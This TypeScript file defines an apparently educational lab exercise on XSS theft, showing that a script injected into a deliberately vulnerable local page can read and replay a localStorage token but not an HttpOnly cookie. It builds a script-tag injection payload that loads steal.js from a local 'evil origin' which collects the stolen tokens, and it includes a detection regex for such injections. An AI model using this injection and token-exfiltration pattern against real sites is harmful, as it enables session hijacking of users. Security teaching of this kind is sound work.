import { API_PATHS } from '../../../shared/api/paths.ts';
import {
  SEEN_COOKIE_HEADER,
  STOLEN_BY_HEADER,
  XSS_FRAME_PATH,
  XSS_PAGE_PATH,
  XSS_SITE_MESSAGE,
  xssSiteAnswerSchema,
} from '../../../shared/api/lab-attacks.ts';
import type { HttpEvent } from '../../../shared/inspector-events.ts';
import { exchangeOrigin } from '../../../shared/exchange-origin.ts';
import { api } from '../api/client.ts';
import { holdsSessionCookie } from './attack-evidence.ts';
import { describeExchange, exchanges, requestHeader } from './evidence.ts';
import { bearerOf, issuerOf } from './jwt-evidence.ts';
import { cookieLogin, demoAccount, signOutBoth } from './lab-actions.ts';
import { askFramedPage, closeLabFrame, labFrameShows, openLabFrame } from './lab-frame.ts';
import type { Evidence, Lab, LabContext } from './lab-types.ts';
import { sessionCookieName } from '../api/session-cookie-name.ts';
import { injectedScript } from './xss-attack-view.ts';
import { XssPanel } from './XssPanel.tsx';

/** The lab 5 site's origin as this window reaches it: its port, under this window's own host name (the same site). */
function reachedAs(siteUrl: string): string {
  return `${window.location.protocol}//${window.location.hostname}:${new URL(siteUrl).port}`;
}

/** Starts the lab 5 site (once) and answers its origin as this window reaches it. */
async function siteOrigin(context: LabContext): Promise<string> {
  const { url } = await api.lab.xssSite(context.labKey);
  return reachedAs(url!);
}

/** Asks the site's page (framed) to log in for a token, or to log it out, and waits for its answer. */
function askSite(origin: string, ask: { action: 'login'; username: string; password: string } | { action: 'logout' }) {
  return askFramedPage({ type: XSS_SITE_MESSAGE, ...ask }, origin, (data) => {
    const answer = xssSiteAnswerSchema.safeParse(data);
    return answer.success && answer.data.action === ask.action ? answer.data : null;
  });
}

/** The site's own login: its page logs in for a token and keeps it in its localStorage (its origin's, not this window's). */
async function siteTokenLogin(context: LabContext): Promise<string> {
  const origin = await siteOrigin(context);
  await openLabFrame(XSS_FRAME_PATH);
  const answer = await askSite(origin, { action: 'login', ...(await demoAccount('alice')) });
  if (!answer.stored) throw new Error(`the site's token login was answered ${answer.status || 'with nothing'}`);
  return `The lab 5 site (${origin}) logged in: POST /token/login → ${answer.status}, and its page now keeps alice's token in its own localStorage. The token panel above is not involved: it belongs to this window's origin.`;
}

/** Opens the vulnerable page with the evil origin's script in its `name`. */
async function inject(context: LabContext): Promise<void> {
  await siteOrigin(context);
  const { url, script } = await api.lab.evilOrigin(context.labKey);
  injectedScript.set({ url: `${url}/steal.js`, source: script });
  const name = `<script src="${url}/steal.js"></script>`;
  await openLabFrame(`${XSS_FRAME_PATH}?name=${encodeURIComponent(name)}`);
}

/** The reset: the site's page logs its token out (when it is open), then the site stops. */
async function closeSite(context: LabContext): Promise<void> {
  // Asked, not started: a reset must not start the site only to stop it.
  const { url } = await api.lab.xssSiteStatus(context.labKey);
  if (url && labFrameShows(XSS_FRAME_PATH)) await askSite(reachedAs(url), { action: 'logout' }).catch(() => undefined);
  closeLabFrame();
  await api.lab.stopXssSite(context.labKey);
}

/** The loads of the vulnerable page whose query carried a script from another origin. */
function injectedLoads(evidence: Evidence): HttpEvent[] {
  return exchanges(evidence, {
    method: 'GET',
    path: XSS_PAGE_PATH,
    status: 200,
    where: (exchange) => {
      const name = new URLSearchParams(exchange.path.split('?')[1] ?? '').get('name') ?? '';
      return /<script\s+src="?https?:\/\/[^"\s>]+\/steal\.js/i.test(name);
    },
  });
}

/** The evil script's replays (its own header says so). */
const stolenCalls = (evidence: Evidence, status?: number) =>
  exchanges(evidence, {
    method: 'GET',
    path: API_PATHS.tokenData,
    ...(status === undefined ? {} : { status }),
    where: (exchange) => requestHeader(exchange, STOLEN_BY_HEADER) === 'evil-script',
  });

/** Lab 5: a script injected into a page can read a token in localStorage and use it; it cannot read an HttpOnly cookie. */
export const xssTheftLab: Lab = {
  id: 'xss-theft',
  number: 5,
  title: 'XSS theft',
  concept: 'Sessions vs JWT: what a script can steal',
  goal:
    'A deliberately vulnerable site (the lab 5 site: this app on another loopback port, so another origin) keeps a token in its localStorage, as the token panel does here. ' +
    'Let a script from an evil origin (the attacker’s server, at localhost:<another port>: another site altogether) into its page and see what it can take: the token, which it replays from the page with success, but not the HttpOnly session cookie, which document.cookie never shows to a script.',
  why: {
    text: 'Any script that runs in a page reads its localStorage, so one XSS hole hands a stored token to an attacker who can use it from anywhere. An HttpOnly cookie cannot be read by the script (it can still be ridden while the page is open), which is why sensitive credentials are kept out of localStorage.',
    source: {
      label: 'OWASP HTML5 Security Cheat Sheet: local storage',
      url: 'https://cheatsheetseries.owasp.org/cheatsheets/HTML5_Security_Cheat_Sheet.html#local-storage',
    },
  },
  steps: [
    {
      kind: 'action',
      id: 'cookie-login',
      label: 'Log in with a cookie session (alice)',
      run: (context) => cookieLogin(context),
      explain: 'POST /session/login: an HttpOnly cookie',
    },
    {
      kind: 'action',
      id: 'site-token-login',
      label: 'Log in for a token (alice) on the vulnerable site',
      run: siteTokenLogin,
      explain: 'POST /token/login from the lab 5 site’s page, which keeps the token in its own localStorage',
    },
    {
      kind: 'instruction',
      id: 'httponly',
      text:
        'HttpOnly keeps a cookie out of document.cookie: the browser still sends it with every request of the page, but no script can read it. localStorage has no such flag: any script running in the page reads it. ' +
        'On plain HTTP the browser does not keep cookies apart by port, so it sends this app’s session cookie to the lab 5 site too.',
    },
    {
      kind: 'action',
      id: 'inject',
      label: 'Open the vulnerable page with the injected script',
      run: inject,
      explain: `GET ${XSS_PAGE_PATH}?name=<script src="http://localhost:<evil port>/steal.js"> on the lab 5 site: the page and the script it let in appear below`,
    },
    {
      kind: 'action',
      id: 'loot',
      label: 'Ask the evil origin what it received',
      run: async (context) => void (await api.lab.loot(context.labKey)),
      explain: `GET ${API_PATHS.labEvilOriginLoot}`,
    },
  ],
  checks: [
    {
      id: 'page-injected',
      label: 'The vulnerable page was loaded with a script tag from another origin in its query',
      proof: (evidence) => {
        const load = injectedLoads(evidence)[0];
        return load
          ? `${describeExchange(load)} on the lab 5 site (${exchangeOrigin(load, '?')}), name=${decodeURIComponent(load.path.split('name=')[1] ?? '').slice(0, 70)}`
          : null;
      },
    },
    {
      id: 'token-replayed',
      label: 'The script read the token from localStorage and used it: GET /token/data → 200 with the victim’s token',
      proof: (evidence) => {
        for (const call of stolenCalls(evidence, 200)) {
          const token = bearerOf(call);
          const issuer = token && issuerOf(evidence, token.compact);
          if (issuer)
            return `${describeExchange(call)} on ${exchangeOrigin(call, '?')}, ${STOLEN_BY_HEADER}: evil-script, with the token issued by exchange #${issuer.id}`;
        }
        return null;
      },
    },
    {
      id: 'cookie-invisible',
      label:
        'The same request carried the HttpOnly session cookie (the browser sent it), yet document.cookie did not show it to the script',
      proof: (evidence) => {
        const call = stolenCalls(evidence).find(
          (exchange) =>
            holdsSessionCookie(requestHeader(exchange, 'cookie')) &&
            !holdsSessionCookie(requestHeader(exchange, SEEN_COOKIE_HEADER)),
        );
        return call
          ? `${describeExchange(call)}: Cookie has ${sessionCookieName()}=…, while the script saw ${SEEN_COOKIE_HEADER}: "${requestHeader(call, SEEN_COOKIE_HEADER)}"`
          : null;
      },
    },
    {
      id: 'loot-home',
      label: 'The token reached the evil origin; the session cookie did not',
      proof: (evidence) => {
        for (const answer of exchanges(evidence, { method: 'GET', path: API_PATHS.labEvilOriginLoot, status: 200 })) {
          const loot = (
            JSON.parse(answer.responseBody ?? '{"loot":[]}') as { loot: { token: string; cookie: string }[] }
          ).loot;
          for (const report of loot) {
            const ending = report.token.split('…')[1];
            const stolen =
              ending && stolenCalls(evidence, 200).find((call) => bearerOf(call)?.compact.endsWith(ending));
            if (stolen && !holdsSessionCookie(report.cookie))
              return `${describeExchange(answer)}: token ${report.token} (the one of exchange #${stolen.id}), cookie "${report.cookie}"`;
          }
        }
        return null;
      },
    },
  ],
  panel: XssPanel,
  reset: async (context) => {
    injectedScript.set(null);
    await closeSite(context);
    await api.lab.forgetLoot(context.labKey);
    await signOutBoth(context);
  },
};
